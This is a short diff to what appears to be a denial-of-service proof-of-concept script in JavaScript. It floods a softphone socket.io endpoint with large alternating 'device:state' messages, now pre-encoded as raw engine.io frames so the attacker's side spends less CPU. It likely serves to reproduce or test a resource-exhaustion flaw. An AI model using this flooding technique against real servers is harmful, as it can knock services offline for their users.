@@ -88,8 +88,9 @@ async function round(p, deadline) {
         await signIn(panel, p).catch(() => undefined);
         const phone = open('/softphone', { protocol: 2, account: p.account, password: p.password, extension: p.extension });
         let n = 0;
-        const states = [bigState(0), bigState(1)];
-        phone.on('server:hello', () => pump(phone, deadline, () => phone.emit('device:state', states[n++ % 2])));
+        // Encoded once: the attacker's own JSON.stringify must not eat the machine's CPU.
+        const states = [bigState(0), bigState(1)].map((s) => `42/softphone,${JSON.stringify(['device:state', s])}`);
+        phone.on('server:hello', () => pump(phone, deadline, () => phone.io.engine.write(states[n++ % 2])));
       });
     }
     setTimeout(resolve, Math.max(0, deadline - performance.now()));
